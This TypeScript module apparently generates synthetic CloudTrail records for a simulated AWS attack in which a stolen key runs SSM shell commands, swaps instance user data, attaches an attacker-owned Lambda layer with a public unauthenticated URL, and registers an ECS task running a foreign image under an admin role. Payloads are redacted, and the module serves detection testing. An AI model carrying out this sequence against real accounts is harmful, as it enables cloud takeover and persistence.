// Execution on compute: a stolen long-term key runs a shell script on an instance through
// SSM, replaces an instance's user data, adds a layer from the attacker's account to a
// function and opens it to the internet through a function URL, and registers a task
// definition that runs the attacker's image under the account's admin role.
import { api, type Ctx } from '../action';
import { iamUserKey } from '../identities';
import { uuid } from '../ids';
import { AGENTS, ATTACKER_ACCOUNT, ATTACKER_IPS } from '../network';
import { accountByName, user } from '../org';
import { action } from '../services/index';
import { javaDate, MINUTE } from '../time';
import { Clock, caller, type Attack } from './common';
import { nth } from '../nth';

const V = '1.09';
const fnArn = (c: Ctx, name: string) => `arn:aws:lambda:${c.region}:${c.acct.account.id}:function:${name}`;
const shortDate = (ms: number) =>
  new Date(ms).toLocaleString('en-US', {
    timeZone: 'UTC',
    month: 'short',
    day: 'numeric',
    year: 'numeric',
    hour: 'numeric',
    minute: '2-digit',
    second: '2-digit',
  });

const SEND_COMMAND = api('ssm.amazonaws.com', 'SendCommand', { version: '1.08' }, (c) => {
  const instanceIds = [nth(c.res.instances, 1, 'instance').id];
  return {
    requestParameters: {
      instanceIds,
      documentName: 'AWS-RunShellScript',
      parameters: 'HIDDEN_DUE_TO_SECURITY_REASONS',
      interactive: false,
    },
    responseElements: {
      command: {
        commandId: uuid(c.rng),
        documentName: 'AWS-RunShellScript',
        documentVersion: '$DEFAULT',
        comment: '',
        expiresAfter: shortDate(c.time + 2 * 60 * MINUTE),
        parameters: 'HIDDEN_DUE_TO_SECURITY_REASONS',
        instanceIds,
        targets: [],
        requestedDateTime: shortDate(c.time),
        status: 'Pending',
        statusDetails: 'Pending',
        outputS3Region: c.region,
        outputS3BucketName: '',
        outputS3KeyPrefix: '',
        maxConcurrency: '50',
        maxErrors: '0',
        targetCount: 1,
        completedCount: 0,
        errorCount: 0,
        deliveryTimedOutCount: 0,
        serviceRole: '',
        notificationConfig: { notificationArn: '', notificationEvents: [], notificationType: '' },
        cloudWatchOutputConfig: { cloudWatchLogGroupName: '', cloudWatchOutputEnabled: false },
        timeoutSeconds: 3600,
        alarmConfiguration: { ignorePollAlarmFailure: false, alarms: [] },
        triggeredAlarms: [],
        interactive: false,
      },
    },
  };
});
const MODIFY_USER_DATA = api('ec2.amazonaws.com', 'ModifyInstanceAttribute', { version: V }, (c) => ({
  requestParameters: { instanceId: nth(c.res.instances, 2, 'instance').id, userData: '<sensitiveDataRemoved>' },
  responseElements: { requestId: c.requestId, _return: true },
}));
const ADD_LAYER = api('lambda.amazonaws.com', 'UpdateFunctionConfiguration20150331v2', {}, (c) => {
  const layer = `arn:aws:lambda:${c.region}:${ATTACKER_ACCOUNT}:layer:otel-collector:4`;
  return {
    requestParameters: { functionName: 'webhook-dispatcher', layers: [layer] },
    responseElements: {
      functionName: 'webhook-dispatcher',
      functionArn: fnArn(c, 'webhook-dispatcher'),
      runtime: 'python3.12',
      role: `arn:aws:iam::${c.acct.account.id}:role/service-role/orders-processor-role`,
      handler: 'app.handler',
      codeSize: 48213,
      timeout: 30,
      memorySize: 512,
      lastModified: `${new Date(c.time).toISOString().slice(0, 19)}.000+0000`,
      version: '$LATEST',
      layers: [{ arn: layer, codeSize: 1843022 }],
      state: 'Active',
      lastUpdateStatus: 'InProgress',
      lastUpdateStatusReason: 'The function is being created.',
      lastUpdateStatusReasonCode: 'Creating',
      packageType: 'Zip',
      architectures: ['arm64'],
    },
  };
});
const PUBLIC_URL = api('lambda.amazonaws.com', 'CreateFunctionUrlConfig20211031', {}, (c) => ({
  requestParameters: { functionName: 'webhook-dispatcher', authType: 'NONE' },
  responseElements: {
    functionUrl: `https://${uuid(c.rng).replace(/-/g, '').slice(0, 32)}.lambda-url.${c.region}.on.aws/`,
    functionArn: fnArn(c, 'webhook-dispatcher'),
    authType: 'NONE',
    creationTime: new Date(c.time).toISOString().replace('Z', '000Z'),
  },
}));
const INVOKE_BY_ANYONE = api('lambda.amazonaws.com', 'AddPermission20150331v2', {}, (c) => ({
  requestParameters: {
    functionName: 'webhook-dispatcher',
    statementId: 'FunctionURLAllowPublicAccess',
    action: 'lambda:InvokeFunctionUrl',
    principal: '*',
    functionUrlAuthType: 'NONE',
  },
  responseElements: {
    statement: JSON.stringify({
      Sid: 'FunctionURLAllowPublicAccess',
      Effect: 'Allow',
      Principal: '*',
      Action: 'lambda:InvokeFunctionUrl',
      Resource: fnArn(c, 'webhook-dispatcher'),
      Condition: { StringEquals: { 'lambda:FunctionUrlAuthType': 'NONE' } },
    }),
  },
}));
const REGISTER_TASK = api('ecs.amazonaws.com', 'RegisterTaskDefinition', { version: '1.08' }, (c) => {
  const acct = c.acct.account.id;
  const taskRoleArn = `arn:aws:iam::${acct}:role/OrganizationAccountAccessRole`;
  const executionRoleArn = `arn:aws:iam::${acct}:role/api-task-execution-role`;
  const containerDefinitions = [
    {
      name: 'api',
      image: `${ATTACKER_ACCOUNT}.dkr.ecr.${c.region}.amazonaws.com/tools:latest`,
      essential: true,
      cpu: 0,
      portMappings: [],
      environment: [],
      mountPoints: [],
      volumesFrom: [],
    },
  ];
  return {
    requestParameters: {
      family: 'api',
      taskRoleArn,
      executionRoleArn,
      networkMode: 'awsvpc',
      containerDefinitions,
      requiresCompatibilities: ['FARGATE'],
      cpu: '256',
      memory: '512',
    },
    responseElements: {
      taskDefinition: {
        taskDefinitionArn: `arn:aws:ecs:${c.region}:${acct}:task-definition/api:221`,
        containerDefinitions,
        family: 'api',
        taskRoleArn,
        executionRoleArn,
        networkMode: 'awsvpc',
        revision: 221,
        volumes: [],
        status: 'ACTIVE',
        requiresAttributes: [{ name: 'com.amazonaws.ecs.capability.task-iam-role' }, { name: 'ecs.capability.task-eni' }],
        placementConstraints: [],
        compatibilities: ['EC2', 'FARGATE'],
        requiresCompatibilities: ['FARGATE'],
        cpu: '256',
        memory: '512',
        registeredAt: javaDate(c.time),
        registeredBy: `arn:aws:iam::${acct}:user/smtp-relay`,
      },
      tags: [],
    },
  };
});

export const computeExecution: Attack = {
  name: 'compute-execution',
  description:
    "SSM SendCommand, an instance's user data replaced, a foreign layer and a public function URL on webhook-dispatcher, and a task definition running a foreign image as OrganizationAccountAccessRole, with prod's smtp-relay key from an unknown address",
  duration: 12 * MINUTE,
  run({ rng, org, t0 }) {
    const acct = accountByName(org, 'prod');
    const identity = iamUserKey(acct, user(acct, 'smtp-relay'));
    const ip = ATTACKER_IPS[1];
    const { call, records } = caller({ rng, acct, identity, ip, ua: AGENTS.kali, clock: new Clock(t0, rng) });
    call(action('ssm:DescribeInstanceInformation'), 'eu-west-1');
    call(SEND_COMMAND, 'eu-west-1', {}, [10, 40]);
    call(MODIFY_USER_DATA, 'eu-west-1', {}, [10, 40]);
    call(ADD_LAYER, 'eu-west-1', {}, [10, 40]);
    call(PUBLIC_URL, 'eu-west-1', {}, [5, 20]);
    call(INVOKE_BY_ANYONE, 'eu-west-1', {}, [2, 10]);
    call(REGISTER_TASK, 'eu-west-1', {}, [10, 40]);
    return { records, account: acct.account.id, principal: identity.arn!, sourceIPAddress: ip };
  },
};
